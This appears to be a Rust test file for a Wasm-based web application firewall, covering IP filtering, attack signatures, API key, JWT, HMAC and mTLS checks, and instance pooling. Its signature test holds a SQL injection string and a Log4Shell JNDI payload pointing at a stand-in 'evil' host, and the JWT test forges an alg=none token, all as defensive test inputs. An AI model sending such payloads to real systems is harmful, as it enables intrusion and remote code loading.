//! Each policy as a real Wasm component inside the host's runtime (no proxy):
//! the same `.wasm` files the WAF serves, called through the WIT contract.

use crate::support::module;
use base64::Engine as _;
use edgewaf::serve::runtime::{
    Action, Annotation, Limits, LoadError, PeerCertificate, PolicyPool, PolicySpec, Request,
    Runtime, TlsInfo, Verdict,
};
use edgewaf::serve::state::{MemoryState, StateBackend};
use hmac::{Hmac, Mac};
use sha2::{Digest, Sha256};
use std::sync::Arc;

fn runtime() -> Arc<Runtime> {
    let state: Arc<dyn StateBackend> = Arc::new(MemoryState::new());
    Runtime::new(state).unwrap()
}

async fn load(
    rt: &Arc<Runtime>,
    name: &str,
    config: serde_json::Value,
) -> Result<Arc<PolicyPool>, LoadError> {
    let bytes = std::fs::read(module(name)).unwrap();
    let (_, component) = rt.compile(&bytes)?;
    rt.load_policy(PolicySpec {
        tenant: "t".into(),
        name: name.into(),
        component,
        config_json: config.to_string(),
        mounts: vec![],
        limits: Limits::default(),
        source: None,
    })
    .await
}

fn request(method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Request {
    edgewaf::serve::request::new_request(method, target, headers.iter().copied(), body.to_vec())
}

fn denied(v: &Verdict) -> Option<u16> {
    match &v.action {
        Action::Deny(d) => Some(d.status),
        _ => None,
    }
}

fn annotation<'a>(v: &'a Verdict, key: &str) -> Option<&'a str> {
    v.annotations
        .iter()
        .find(|a: &&Annotation| a.key == key)
        .map(|a| a.value.as_str())
}

#[tokio::test]
async fn invalid_components_are_refused_with_the_reason() {
    let rt = runtime();
    let err = rt.compile(b"this is not wasm").unwrap_err();
    assert!(matches!(err, LoadError::Compile(_)), "{err}");
    // A core module, not a component.
    let err = rt.compile(b"\0asm\x01\0\0\0").unwrap_err();
    assert!(
        err.to_string()
            .contains("not a valid WebAssembly component"),
        "{err}"
    );
    let err = load(&rt, "hostile", serde_json::json!({"init": "fail"}))
        .await
        .err()
        .unwrap();
    assert!(
        err.to_string()
            .contains("hostile: init refused as configured"),
        "{err}"
    );
    let err = load(
        &rt,
        "ip-filter",
        serde_json::json!({"deny": ["300.1.2.3/8"]}),
    )
    .await
    .err()
    .unwrap();
    assert!(
        err.to_string().contains("300.1.2.3"),
        "the guest's init error names the entry: {err}"
    );
}

#[tokio::test]
async fn ip_filter_component() {
    let rt = runtime();
    let p = load(
        &rt,
        "ip-filter",
        serde_json::json!({"deny": ["198.51.100.0/24", "2001:db8::/32"]}),
    )
    .await
    .unwrap();
    let mut req = request("GET", "/", &[("host", "x")], b"");
    req.connection.client_addr = "198.51.100.7".into();
    assert_eq!(denied(&p.on_request(&req).await.unwrap()), Some(0));
    req.connection.client_addr = "2001:db8::5".into();
    assert!(denied(&p.on_request(&req).await.unwrap()).is_some());
    req.connection.client_addr = "192.0.2.1".into();
    assert_eq!(denied(&p.on_request(&req).await.unwrap()), None);
}

#[tokio::test]
async fn signatures_component() {
    let rt = runtime();
    let p = load(&rt, "signatures", serde_json::json!({}))
        .await
        .unwrap();
    assert!(p.capabilities().request_body);
    let attack = request(
        "GET",
        "/?id=1%27%20OR%20%271%27%3D%271",
        &[("host", "x")],
        b"",
    );
    let v = p.on_request(&attack).await.unwrap();
    assert!(denied(&v).is_some());
    assert!(
        v.findings.iter().any(|f| f.rule_id.starts_with("sig-sqli")),
        "{:?}",
        v.findings
    );
    let json_attack = request(
        "POST",
        "/api",
        &[("content-type", "application/json")],
        br#"{"user":{"name":"${${lower:j}ndi:ldap://evil/a}"}}"#,
    );
    assert!(denied(&p.on_request(&json_attack).await.unwrap()).is_some());
    let benign = request(
        "POST",
        "/api",
        &[("content-type", "application/json")],
        br#"{"name":"O'Brien"}"#,
    );
    assert_eq!(denied(&p.on_request(&benign).await.unwrap()), None);
}

#[tokio::test]
async fn auth_apikey_component() {
    let rt = runtime();
    let hash = hex::encode(Sha256::digest(b"k-live-0123456789"));
    let p = load(
        &rt,
        "auth-apikey",
        serde_json::json!({"keys": [{"name": "partner-7", "sha256": hash}]}),
    )
    .await
    .unwrap();
    let ok = p
        .on_request(&request(
            "GET",
            "/",
            &[("x-api-key", "k-live-0123456789")],
            b"",
        ))
        .await
        .unwrap();
    assert_eq!(denied(&ok), None);
    assert_eq!(annotation(&ok, "apikey.name"), Some("partner-7"));
    let wrong = p
        .on_request(&request("GET", "/", &[("x-api-key", "k-live-wrong")], b""))
        .await
        .unwrap();
    assert_eq!(denied(&wrong), Some(401));
    let missing = p.on_request(&request("GET", "/", &[], b"")).await.unwrap();
    assert_eq!(denied(&missing), Some(401));
}

fn hs256(secret: &[u8], header: &str, claims: &serde_json::Value) -> String {
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let signing = format!("{}.{}", b64.encode(header), b64.encode(claims.to_string()));
    let mut mac = Hmac::<Sha256>::new_from_slice(secret).unwrap();
    mac.update(signing.as_bytes());
    format!("{signing}.{}", b64.encode(mac.finalize().into_bytes()))
}

#[tokio::test]
async fn auth_jwt_component() {
    let rt = runtime();
    let secret = b"0123456789abcdef0123456789abcdef";
    let k = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(secret);
    let config = serde_json::json!({
        "jwks": {"keys": [{"kty": "oct", "kid": "k1", "alg": "HS256", "k": k}]},
        "issuer": "https://idp.test/",
        "audience": "payments",
        "forward_claims": {"sub": "x-auth-sub"},
    });
    let p = load(&rt, "auth-jwt", config).await.unwrap();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let claims = serde_json::json!({"iss": "https://idp.test/", "aud": "payments", "sub": "svc-1", "exp": now + 300, "iat": now});
    let token = hs256(secret, r#"{"alg":"HS256","typ":"JWT","kid":"k1"}"#, &claims);
    let auth = format!("Bearer {token}");
    let v = p
        .on_request(&request(
            "GET",
            "/pay",
            &[("authorization", &auth), ("x-auth-sub", "spoofed")],
            b"",
        ))
        .await
        .unwrap();
    assert_eq!(denied(&v), None, "{v:?}");
    assert!(
        v.remove_request_headers.iter().any(|h| h == "x-auth-sub"),
        "client's header stripped"
    );
    assert!(
        v.add_request_headers
            .iter()
            .any(|h| h.name == "x-auth-sub" && h.value == b"svc-1")
    );
    // alg=none is refused with 401 and WWW-Authenticate.
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let none = format!(
        "Bearer {}.{}.",
        b64.encode(r#"{"alg":"none"}"#),
        b64.encode(claims.to_string())
    );
    let v = p
        .on_request(&request("GET", "/pay", &[("authorization", &none)], b""))
        .await
        .unwrap();
    assert_eq!(denied(&v), Some(401));
    let Action::Deny(d) = &v.action else {
        unreachable!()
    };
    assert!(d.headers.iter().any(|h| h.name == "www-authenticate"));
    // Expired.
    let old = serde_json::json!({"iss": "https://idp.test/", "aud": "payments", "sub": "s", "exp": now - 3600});
    let expired = format!(
        "Bearer {}",
        hs256(secret, r#"{"alg":"HS256","kid":"k1"}"#, &old)
    );
    assert_eq!(
        denied(
            &p.on_request(&request("GET", "/", &[("authorization", &expired)], b""))
                .await
                .unwrap()
        ),
        Some(401)
    );
}

#[tokio::test]
async fn auth_hmac_component() {
    let rt = runtime();
    let secret = "whsec_0123456789abcdef";
    let p = load(
        &rt,
        "auth-hmac",
        serde_json::json!({"keys": [{"id": "partner-7", "secret": secret}]}),
    )
    .await
    .unwrap();
    assert!(p.capabilities().request_body);
    let body = br#"{"amount":42}"#;
    let ts = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        .to_string();
    let sign = |ts: &str, body: &[u8]| {
        let canonical = format!(
            "{ts}\nPOST\n/hooks/pay\n{}",
            hex::encode(Sha256::digest(body))
        );
        let mut mac = Hmac::<Sha256>::new_from_slice(secret.as_bytes()).unwrap();
        mac.update(canonical.as_bytes());
        format!("v1={}", hex::encode(mac.finalize().into_bytes()))
    };
    let sig = sign(&ts, body);
    let headers = [
        ("x-timestamp", ts.as_str()),
        ("x-key-id", "partner-7"),
        ("x-signature", sig.as_str()),
    ];
    assert_eq!(
        denied(
            &p.on_request(&request("POST", "/hooks/pay", &headers, body))
                .await
                .unwrap()
        ),
        None
    );
    // Tampered body.
    assert_eq!(
        denied(
            &p.on_request(&request(
                "POST",
                "/hooks/pay",
                &headers,
                br#"{"amount":4200}"#
            ))
            .await
            .unwrap()
        ),
        Some(401)
    );
    // Stale timestamp (a replay an hour later).
    let old = (ts.parse::<u64>().unwrap() - 3600).to_string();
    let old_sig = sign(&old, body);
    let stale = [
        ("x-timestamp", old.as_str()),
        ("x-key-id", "partner-7"),
        ("x-signature", old_sig.as_str()),
    ];
    assert_eq!(
        denied(
            &p.on_request(&request("POST", "/hooks/pay", &stale, body))
                .await
                .unwrap()
        ),
        Some(401)
    );
}

#[tokio::test]
async fn auth_mtls_component() {
    let rt = runtime();
    let config = serde_json::json!({"rules": [{"path_prefix": "/terminal", "allow_san": ["*.pos.acme.test"]}]});
    let p = load(&rt, "auth-mtls", config).await.unwrap();
    let mut req = request("GET", "/terminal/pay", &[], b"");
    assert_eq!(
        denied(&p.on_request(&req).await.unwrap()),
        Some(401),
        "no certificate"
    );
    let cert = |san: &str| PeerCertificate {
        subject: "CN=t1".into(),
        issuer: "CN=Acme CA".into(),
        serial: "01".into(),
        dns_names: vec![san.into()],
        uris: vec![],
        sha256: "ab".repeat(32),
        not_after: 4_000_000_000,
    };
    req.connection.tls = Some(TlsInfo {
        version: "TLSv1.3".into(),
        cipher: "TLS13_AES_128_GCM_SHA256".into(),
        sni: None,
        client_cert: Some(cert("t1.pos.acme.test")),
    });
    assert_eq!(denied(&p.on_request(&req).await.unwrap()), None);
    req.connection.tls.as_mut().unwrap().client_cert = Some(cert("evil.example"));
    assert_eq!(denied(&p.on_request(&req).await.unwrap()), Some(403));
}

#[tokio::test]
async fn state_is_namespaced_per_tenant_and_instances_are_reused() {
    let rt = runtime();
    let p = load(&rt, "hostile", serde_json::json!({})).await.unwrap();
    assert_eq!(p.idle_instances(), 1, "init created one instance");
    for _ in 0..5 {
        p.on_request(&request("GET", "/", &[], b"")).await.unwrap();
    }
    assert_eq!(p.idle_instances(), 1, "sequential calls reuse one instance");
    let s = rt.state();
    s.counter_add("a", "k", 1, 60_000, 1_000);
    assert_eq!(s.counter_add("b", "k", 1, 60_000, 1_000), 1);
}

/// The process keeps at most `idle_instances` idle instances across all
/// pools: the one idle the longest goes first, and its pool makes a new
/// instance when it is called again.
#[tokio::test]
async fn idle_instances_are_capped_across_pools() {
    let rt = runtime();
    rt.set_idle_instances(2);
    let mut pools = Vec::new();
    for _ in 0..5 {
        pools.push(load(&rt, "hostile", serde_json::json!({})).await.unwrap());
        assert!(rt.idle_instances() <= 2, "{} idle", rt.idle_instances());
    }
    // The three oldest pools lost their instance, the two newest kept theirs.
    let idle: Vec<usize> = pools.iter().map(|p| p.idle_instances()).collect();
    assert_eq!(idle, vec![0, 0, 0, 1, 1]);
    // Every pool still answers (a new instance where it had none) ...
    for p in &pools {
        let v = p.on_request(&request("GET", "/", &[], b"")).await.unwrap();
        assert_eq!(denied(&v), None);
    }
    // ... and the budget still holds, now with the two most recent callers.
    assert_eq!(rt.idle_instances(), 2);
    let idle: Vec<usize> = pools.iter().map(|p| p.idle_instances()).collect();
    assert_eq!(idle, vec![0, 0, 0, 1, 1]);
    // A dropped pool's idle instances leave the count.
    pools.truncate(3);
    assert_eq!(rt.idle_instances(), 0);
}
